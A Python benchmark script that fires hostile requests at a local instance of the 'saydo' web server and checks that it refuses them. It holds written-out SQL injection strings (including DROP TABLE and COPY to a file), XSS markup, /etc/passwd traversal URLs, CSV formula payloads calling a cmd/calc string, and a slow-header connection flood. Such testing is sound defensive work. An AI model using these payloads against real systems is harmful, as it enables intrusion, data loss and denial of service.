"""Hostile requests against a real `saydo serve` process: what an attacker or a careless client would send.

    python -m bench hostile                   # every category, full counts
    python -m bench.bench_hostile --quick     # fewer payloads and connections (what the test suite runs)

The server is `saydo serve` in its own process with a token and short deadlines (3 s for headers, 5 s for bodies),
over the founding example checked against the real volunteer alert log (the bundled demo when ../shared is absent).
Each category prints how many requests it sent and how many got an answer they must not get; every failure is
listed. The figures are in docs/reliability.md.

Categories:
- sql: every query parameter of every GET route in the OpenAPI document (and the pages' filters), each with SQL and
  quoting payloads: no 5xx, no database error text, and the stored row counts unchanged;
- traversal: ``..`` in every spelling on /static and /files: nothing outside is served;
- echo: markup in paths and parameters of error answers: no body carries it;
- limits: bodies over the limit with and without Content-Length: 413 before the body is read;
- tokens: malformed, wrong, truncated and extended tokens on every write route: 401/403 and no job;
- early: a wrong token with a large body announced: answered before a byte of the body is sent;
- links: an article whose source is not http(s): no link to it on any page;
- formula: a formula typed into a correction: every CSV download shows it as text;
- slow: many connections sending their headers a byte at a time: all closed by the header deadline;
- reads during an upload: pages keep answering 200 while an alert log is uploaded, with p50/p99 latency.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import secrets
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from bench.bench_serve import SHARED, build_store, free_port, start
from saydo.export.cells import safe_cell

SQL = ["' OR '1'='1", "1; DROP TABLE statements; --", "\" OR 1=1 --", "') UNION SELECT * FROM observations --",
       "%' OR 1=1 --", "\\'; SELECT 1; --", "1)) OR ((1=1", "UA-30' OR region LIKE '%", "${jndi:x}", "%00",
       "' AND (SELECT count(*) FROM duckdb_tables()) > 0 --", "ATTACH '/tmp/x.db' AS x; --",
       "COPY statements TO '/tmp/x'",
       "2022-01-01' OR '1'='1", "-1", "99999999999999999999999", "NaN", "", "a" * 5000, "\u202e'; --", "[]{}"]
SQL_QUICK = SQL[:6]
MARKUP = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
          "javascript:alert(1)", "'><iframe src=//x>"]
TRAVERSAL = ["/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
             "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%252e%252e/%252e%252e/etc/passwd",
             "/static/....//....//etc/passwd", "/static/..\\..\\etc\\passwd",
             "/static//etc/passwd", "/static/%c0%ae%c0%ae/etc/passwd", "/files/..%2f..%2fetc%2fpasswd/download",
             "/files/%2e%2e/download", "/files/../../etc/passwd/download", "/static/saydo.js%00.png",
             "/static/../app.py", "/static/%2e%2e/app.py", "/static/../../pyproject.toml"]
LEAKS = ("root:x:", "def create_app", "[project]", "import ")
DB_ERRORS = ("Catalog Error", "Parser Error", "Binder Error", "duckdb", "Traceback", "syntax error")


@dataclass
class Outcome:
    name: str
    requests: int = 0
    failures: list[str] = field(default_factory=list)
    note: str = ""

    def fail(self, what: str) -> None:
        self.failures.append(what)


def server(db: Path, folder: Path, token: str) -> tuple[subprocess.Popen, str]:
    port = free_port()
    env = {**os.environ, "SAYDO_TOKEN": token}
    saydo = Path(sys.executable).parent / "saydo"
    proc = start([str(saydo), "serve", "--db", str(db), "--port", str(port), "--data-dir", str(folder / "data"),
                  "--header-timeout", "3", "--body-timeout", "5", "--max-upload-mb", "20"], port, env)
    return proc, f"http://127.0.0.1:{port}"


def counts(http) -> tuple:
    """What the store holds, as the API reports it: statements, checks, files and rejects."""
    statements = http.get("/api/statements", params={"kind": "any", "limit": 1}).json()["total"]
    checks = http.get("/api/checks", params={"limit": 1}).json()["total"]
    files = http.get("/api/files").json()
    rejects = http.get("/api/rejects", params={"limit": 1}).json().get("total")
    return statements, checks, str(files)[:5000], rejects


def get_params(http) -> list[tuple[str, str]]:
    """(path, parameter) for every query parameter of every GET route of the OpenAPI document."""
    spec = http.get("/openapi.json").json()
    found = []
    for path, ops in spec["paths"].items():
        op = ops.get("get")
        if not op:
            continue
        concrete = path.replace("{statement_id}", "0123456789abcdef").replace("{sha256}", "0" * 64)
        concrete = concrete.replace("{job_id}", "0123456789ab").replace("{actor}", "RUS").replace("{code}", "UA-30")
        concrete = concrete.replace("{article_id}", "0123456789abcdef")
        if "{" in concrete:
            concrete = concrete.split("{", 1)[0] + "x"
        for p in op.get("parameters", []):
            if p.get("in") == "query":
                found.append((concrete, p["name"]))
    for page, names in (("/", ("q", "actor", "region", "verdict", "kind", "sort", "from", "to", "limit", "offset")),
                        ("/checks", ("verdict", "source", "actor", "region")), ("/observations", ("region", "source"))):
        found += [(page, n) for n in names]
    return found


def sql(http, quick: bool) -> Outcome:
    out = Outcome("sql")
    before = counts(http)
    for path, name in get_params(http):
        for payload in SQL_QUICK if quick else SQL:
            r = http.get(path, params={name: payload})
            out.requests += 1
            if r.status_code >= 500:
                out.fail(f"{path}?{name}= {payload[:30]!r}: {r.status_code}")
            elif any(e in r.text and e not in payload for e in DB_ERRORS):
                out.fail(f"{path}?{name}= {payload[:30]!r}: database error text in the answer")
    if counts(http) != before:
        out.fail("stored row counts changed")
    return out


def traversal(http, quick: bool) -> Outcome:
    out = Outcome("traversal")
    for url in TRAVERSAL:
        r = http.get(url)
        out.requests += 1
        if r.status_code == 200 and any(leak in r.text for leak in LEAKS):
            out.fail(f"{url}: served a file from outside")
    return out


def echo(http, quick: bool) -> Outcome:
    out = Outcome("echo")
    own = '<script src="/static/saydo.js" defer></script>'
    urls = []
    for m in MARKUP[:2] if quick else MARKUP:
        urls += [f"/checks/{m}", f"/articles/{m}", f"/nothing/{m}", f"/api/jobs/{m}", f"/files/{m}/download",
                 f"/actors/{m}", f"/?_format={m}", f"/api/statements?actor={m}", f"/api/statements?limit={m}"]
    for url in urls:
        for accept in ("application/json", "text/html"):
            r = http.get(url, headers={"accept": accept})
            out.requests += 1
            body = r.text.replace(own, "")
            if r.status_code < 400:
                continue
            if any(tag in body for tag in ("<script", "<img", "<svg", "<iframe")):
                out.fail(f"{url} ({accept}): markup echoed in a {r.status_code}")
    return out


def limits(http, token: str, quick: bool) -> Outcome:
    out = Outcome("limits")
    auth = {"authorization": f"Bearer {token}"}
    big = 21 * 1024 * 1024
    for route in ("/api/uploads/articles", "/api/uploads/observations"):
        head = (f"POST {route} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
                f"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {big}\r\n\r\n").encode()
        answer = raw(str(http.base_url), head)
        out.requests += 1
        if not answer.startswith(b"HTTP/1.1 413"):
            out.fail(f"{route} declared {big:,} bytes and sent none: {answer[:40]!r}")

        def chunks():  # a well-formed file part that goes on past the limit, with no Content-Length
            yield b'--x\r\ncontent-disposition: form-data; name="file"; filename="big.csv"\r\n\r\n'
            for _ in range(22 * 4):
                yield b"z" * (256 * 1024)

        try:
            r = http.post(route, headers={**auth, "content-type": "multipart/form-data; boundary=x"}, content=chunks())
            status = r.status_code
        except Exception as exc:  # the server may close the connection as it refuses
            status = type(exc).__name__
        out.requests += 1
        if status not in (413, "RemoteProtocolError", "WriteError", "ReadError"):
            out.fail(f"{route} chunked past the limit: {status}")
    return out


def tokens(http, token: str, quick: bool) -> Outcome:
    out = Outcome("tokens")
    variants = ["", "Bearer", "Bearer ", "bearer x", f"Bearer {token[:-1]}", f"Bearer {token}x", f"Bearer x{token}",
                f"Basic {token}", f"Bearer {token.upper()}", f"Bearer {token[::-1]}", "Bearer \u00e9\u00e9",
                f"Bearer {'a' * len(token)}", f"Bearer {'a' * 8000}", f"Bearer {token[:8]}", "Bearer null",
                f"Token {token}", f"Bearer\t{token}x"]
    jobs_before = len(http.get("/api/jobs").json()["jobs"])
    for route in ("/api/uploads/articles", "/api/uploads/observations",
                  "/api/statements/0123456789abcdef/notes", "/api/statements/0123456789abcdef/corrections"):
        for v in variants[:6] if quick else variants:
            if route.startswith("/api/uploads"):
                body = (b'--q\r\ncontent-disposition: form-data; name="file"; filename="a.txt"\r\n\r\n'
                        b'date 2022-03-29\n\nx\n\r\n--q--\r\n')
                kind = "multipart/form-data; boundary=q"
            else:
                body, kind = b"text=x&editor=x&why=x", "application/x-www-form-urlencoded"
            auth = f"Authorization: {v}\r\n" if v else ""
            answer = raw(str(http.base_url), (f"POST {route} HTTP/1.1\r\nHost: x\r\n{auth}Content-Type: {kind}\r\n"
                                              f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
            out.requests += 1
            status = answer[9:12]
            if status not in (b"401", b"403", b"431", b"400"):
                out.fail(f"{route} with {v[:24]!r}: {answer[:40]!r}")
        for form_token in ("", "x", token[:-1], token + " "):
            r = http.post(route, data={"token": form_token, "text": "x", "editor": "x", "why": "x"},
                          files={"file": ("a.txt", b"x")} if route.startswith("/api/uploads") else None)
            out.requests += 1
            if r.status_code not in (401, 403):
                out.fail(f"{route} with form token {form_token[:24]!r}: {r.status_code}")
    if len(http.get("/api/jobs").json()["jobs"]) != jobs_before:
        out.fail("a job was started")
    return out


def raw(base: str, data: bytes) -> bytes:
    """Send ``data`` on a new connection and return the first answer (b"" when none came within 10 s)."""
    host, port = base.rstrip("/").rsplit("//", 1)[1].split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(data)
        try:
            return sock.recv(4096)
        except socket.timeout:
            return b""


def early(base: str, token: str, quick: bool) -> Outcome:
    """A wrong token with 15 MB announced: the answer must come with no body sent at all."""
    out = Outcome("early")
    for route in ("/api/uploads/articles", "/api/uploads/observations"):
        for auth in (f"Bearer {'w' * 24}", None):
            head = (f"POST {route} HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=q\r\n"
                    f"Content-Length: {15 * 1024 * 1024}\r\n" + (f"Authorization: {auth}\r\n" if auth else "") +
                    "\r\n").encode()
            first_part = b'--q\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
            answer = raw(base, head if auth else head + first_part)
            out.requests += 1
            if not answer.startswith(b"HTTP/1.1 401"):
                out.fail(f"{route} ({'header' if auth else 'file before token'}): {answer[:40]!r}")
    return out


def links(http, token: str, quick: bool) -> Outcome:
    out = Outcome("links")
    auth = {"authorization": f"Bearer {token}"}
    for scheme in ("javascript:alert(document.domain)", "data:text/html,x", "vbscript:x", "//evil.example/"):
        text = (f"date 2022-04-02\nsource {scheme}\n\nThe defence minister said Moscow would reduce military "
                f"activity near Kyiv.\n").encode()
        r = http.post("/api/uploads/articles", headers=auth, files={"file": ("s.txt", text)})
        job = wait_job(http, r.json()["id"])
        out.requests += 1
        pages = [job["result"]["article_url"], *(c["url"] for c in job["result"].get("checks", []))]
        for page in pages:
            body = http.get(page).text.lower()
            out.requests += 1
            if f'href="{scheme[:10].lower()}' in body or "original</a>" in body:
                out.fail(f"{page}: {scheme} rendered as a link")
    return out


def formula(http, token: str, quick: bool) -> Outcome:
    out = Outcome("formula")
    auth = {"authorization": f"Bearer {token}"}
    statement = http.get("/api/statements", params={"kind": "pledge", "limit": 1}).json()["statements"][0]["id"]
    payloads = ['=HYPERLINK("http://x.invalid/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    for payload in payloads[:2] if quick else payloads:
        r = http.post(f"/api/statements/{statement}/corrections", headers=auth,
                      data={"speaker": payload, "why": "bench", "editor": "bench"})
        out.requests += 1
        if r.status_code != 200:
            out.fail(f"correction refused: {r.status_code} {r.text[:100]}")
            continue
        for url in ("/?_format=csv&kind=any", "/checks?_format=csv"):
            page = http.get(url)
            out.requests += 1
            rows = list(csv.DictReader(io.StringIO(page.text)))
            cells = [v for row in rows for v in row.values() if isinstance(v, str)]
            if any(safe_cell(c) != c for c in cells):
                out.fail(f"{url}: a formula-like cell with no apostrophe")
            if payload in cells:
                out.fail(f"{url}: {payload!r} exported as is")
    http.post(f"/api/statements/{statement}/corrections", headers=auth,
              data={"restore": "true", "why": "bench done", "editor": "bench"})
    return out


def slow(base: str, quick: bool, header_timeout: float = 3.0) -> Outcome:
    """Connections that send their headers a byte at a time: every one closed by the header deadline."""
    out = Outcome("slow")
    host, port = base.rsplit("//", 1)[1].split(":")
    n = 60 if quick else 300
    socks = []
    for _ in range(n):
        try:
            s = socket.create_connection((host, int(port)), timeout=2)
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            socks.append(s)
        except OSError as exc:
            out.fail(f"could not open a connection: {exc}")
    out.requests = len(socks)
    started = time.monotonic()
    open_after = len(socks)
    while time.monotonic() - started < header_timeout + 10 and open_after:
        open_after = 0
        for s in socks:
            if s.fileno() < 0:
                continue
            try:
                s.settimeout(0.0)
                data = s.recv(4096)
                if data == b"" or data.startswith(b"HTTP/1.1 408"):
                    s.close()
                    continue
            except BlockingIOError:
                trickle(s)
            except OSError:
                s.close()
                continue
            open_after += 1
        time.sleep(0.5)
    took = time.monotonic() - started
    for s in socks:
        if s.fileno() >= 0:
            s.close()
    if open_after:
        out.fail(f"{open_after} of {n} slow connections still open after {took:.0f} s")
    out.note = f"{n} slow connections, all closed within {took:.1f} s (header deadline {header_timeout:g} s)"
    return out


def trickle(s: socket.socket) -> None:
    """Trickle one more header byte (a slow client keeps its connection busy)."""
    try:
        s.sendall(b"X")
    except OSError:
        pass


def reads_during_upload(http, token: str, quick: bool) -> Outcome:
    out = Outcome("reads during an upload")
    log = SHARED / "data" / "air-raid-alerts" / "official_data_en.csv"
    if not log.exists():
        out.note = "skipped: ../shared absent"
        return out
    body = log.read_bytes()
    done = threading.Event()
    latencies, bad = [], []

    def reader():
        import httpx

        with httpx.Client(base_url=str(http.base_url), timeout=30) as c:
            i = 0
            while not done.is_set():
                path = ("/", "/checks", "/api/statements?kind=any", "/observations", "/articles")[i % 5]
                i += 1
                t0 = time.perf_counter()
                r = c.get(path)
                latencies.append(time.perf_counter() - t0)
                if r.status_code != 200:
                    bad.append(f"{path}: {r.status_code}")

    threads = [threading.Thread(target=reader) for _ in range(2 if quick else 4)]
    for t in threads:
        t.start()
    r = http.post("/api/uploads/observations", headers={"authorization": f"Bearer {token}"},
                  files={"file": (log.name, body)}, timeout=120)
    job = wait_job(http, r.json()["id"], timeout=600)
    done.set()
    for t in threads:
        t.join()
    out.requests = len(latencies)
    out.failures = bad[:20] + ([f"the upload job {job['state']}: {job.get('error')}"] if job["state"] != "done" else [])
    latencies.sort()
    if latencies:
        out.note = (f"{len(latencies):,} reads during a {len(body) / 1e6:.1f} MB upload and its load and re-check: "
                    f"p50 {statistics.median(latencies) * 1000:.1f} ms, "
                    f"p99 {latencies[int(0.99 * (len(latencies) - 1))] * 1000:.1f} ms")
    return out


def wait_job(http, job_id: str, timeout: float = 180) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        job = http.get(f"/api/jobs/{job_id}").json()
        if job["state"] in ("done", "failed"):
            return job
        time.sleep(0.2)
    raise SystemExit(f"job {job_id} did not finish within {timeout:.0f} s")


def run(quick: bool = False) -> list[Outcome]:
    import httpx

    token = secrets.token_urlsafe(24)
    with tempfile.TemporaryDirectory(prefix="saydo-hostile-") as tmp:
        folder = Path(tmp)
        db, what = build_store(folder)
        print(f"store: {what}", flush=True)
        proc, base = server(db, folder, token)
        try:
            with httpx.Client(base_url=base, timeout=60) as http:
                outcomes = [sql(http, quick), traversal(http, quick), echo(http, quick), limits(http, token, quick),
                            tokens(http, token, quick), early(base, token, quick), links(http, token, quick),
                            formula(http, token, quick), slow(base, quick), reads_during_upload(http, token, quick)]
                if http.get("/healthz").status_code != 200:
                    outcomes.append(Outcome("alive", 1, ["the server stopped answering"]))
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                proc.kill()
    return outcomes


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="fewer payloads and connections")
    args = parser.parse_args()
    started = time.perf_counter()
    outcomes = run(args.quick)
    print(f"{'category':<24}{'requests':>10}{'failures':>10}")
    for o in outcomes:
        print(f"{o.name:<24}{o.requests:>10,}{len(o.failures):>10}" + (f"   {o.note}" if o.note else ""))
        for f in o.failures[:10]:
            print(f"    ! {f}")
    total = sum(o.requests for o in outcomes)
    failed = sum(len(o.failures) for o in outcomes)
    print(f"{'all':<24}{total:>10,}{failed:>10}   ({time.perf_counter() - started:.0f} s)")


if __name__ == "__main__":
    main()
